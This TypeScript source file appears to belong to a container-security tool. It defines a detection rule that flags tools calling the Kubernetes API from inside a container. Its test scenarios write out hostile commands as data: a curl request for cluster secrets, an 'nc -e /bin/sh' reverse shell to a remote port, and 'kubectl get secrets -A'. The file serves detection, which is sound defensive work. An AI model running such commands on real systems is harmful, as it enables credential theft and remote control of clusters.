import type { Connection } from '../../model/connection.js';
import type { DetectionCase, ProcessOutline } from '../../model/detection-case.js';
import type { Level } from '../../model/finding.js';
import type { Process } from '../../model/process.js';
import { type Call, callsWhere, grouped } from '../calls.js';
import { commandedRows } from '../commanded.js';
import { type EarlyPairs, earlyPairs } from '../early-pairs.js';
import { programName } from '../lineage.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { isTool } from '../tool.js';
import { command, connectionEvidence, destination, processEvidence, span } from '../wording.js';

const API_NAME = /^kubernetes(?:\.default(?:\.svc(?:\.|$)|$)|$)/;
const API_WORDS = /kubernetes\.default|KUBERNETES_SERVICE|\/api\/v1\/|\/apis\/[a-z]/;
const API_PORTS = new Set([443, 6443, 8443]);
const CALLS_SHOWN = 5;

export const apiServerAccess = defineRule({
  id: 'api-server-access',
  title: 'Kubernetes API called by a tool',
  description:
    'kubectl, a download tool, a shell or a program that nobody installed calls the API of the cluster from a container. Operators and controllers ' +
    'do so with a program of their own and from their start; a tool that begins late has somebody behind it.',
  level: 'high',
  stage: 'consequence',
  attack: ['T1613', 'T1552.007'],
  needs: ['connections', 'containers'],
  options: {},
  falsePositives: ['Jobs and deployment runners that call kubectl.', 'Sidecars that ask for their own pod with a script.'],
  *run({ view, stories, calls }) {
    const commanded = commandedRows(stories);
    const early = earlyPairs(view);
    const inside = callsWhere(calls({ isExternal: false, ports: API_PORTS }), (call) => isContainersTool(view.outline(call.processId)));
    for (const [processId, own] of grouped(inside, (call) => call.processId)) {
      const process = view.process(processId);
      if (process === undefined) continue;
      const connections = connectionsTo(view, process, own);
      if (connections.length === 0) continue;
      yield {
        level: levelOf(process, commanded, early),
        title: `${command(process)} called the API of the cluster`,
        why: `${command(process)} (pid ${process.pid}) called ${[...new Set(connections.map(destination))].join(', ')}, the API of the cluster, from a container.`,
        process,
        ...span(...own.map((call) => call.atUs)),
        count: connections.length,
        connections: connections.slice(0, CALLS_SHOWN),
        related: [],
        evidence: [
          ...processEvidence(process),
          ...connections
            .slice(0, CALLS_SHOWN)
            .flatMap((one) => connectionEvidence(one, `pid ${process.pid} connected to ${destination(one)}`)),
        ],
        members: [process.id],
      };
    }
  },
  hits: [
    scenario(
      'curl asks for the secrets of the cluster, late',
      `
      container web
      0       node server.js
      1200      sh -c "…"
      1200.1      curl -sk https://kubernetes.default.svc/api/v1/secrets
      1200.2        > tcp 10.96.0.1:443
    `,
    ),
    scenario(
      'kubectl below a commanded shell',
      `
      container web
      0       node server.js
      1200      nc host 4444 -e /bin/sh
      1200.1      > tcp 203.0.113.9:4444
      1200.2      => /bin/sh
      1210        kubectl get secrets -A
      1210.1        > tcp 10.96.0.1:443
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a runner deploys',
      `
      container runner
      0       bash deploy.sh
      30        kubectl apply -f app.yaml
      30.1        > tcp 10.96.0.1:443
    `,
    ),
    scenario(
      'a script calls another service over TLS',
      `
      container cron
      0       crond -f
      600       sh -c "/opt/job.sh"
      600.1       curl -s https://orders.shop.svc/health
      600.2         > tcp 10.96.4.7:443
    `,
    ),
  ],
});

function isContainersTool(process: ProcessOutline | undefined): boolean {
  return process?.containerId !== undefined && (programName(process) === 'kubectl' || isTool(process));
}

/** The calls that go to the API: by the name of the address, else by what the arguments name. kubectl calls nothing else. */
function connectionsTo(view: DetectionCase, process: Process, calls: readonly Call[]): readonly Connection[] {
  const isNamed = programName(process) === 'kubectl' || API_WORDS.test(process.arguments ?? '');
  return calls
    .flatMap((call) => view.connection(call.connectionId) ?? [])
    .filter(({ remoteNames, remoteWorkload = '' }) => {
      const isApi = remoteNames.some(({ name }) => API_NAME.test(name)) || remoteWorkload.startsWith('kube-apiserver');
      return isApi || isNamed;
    });
}

function levelOf(process: Process, commanded: ReadonlySet<number>, early: EarlyPairs): Level {
  if (commanded.has(process.id)) return 'high';
  return process.late === 'late' && !early.has(process) ? 'medium' : 'low';
}
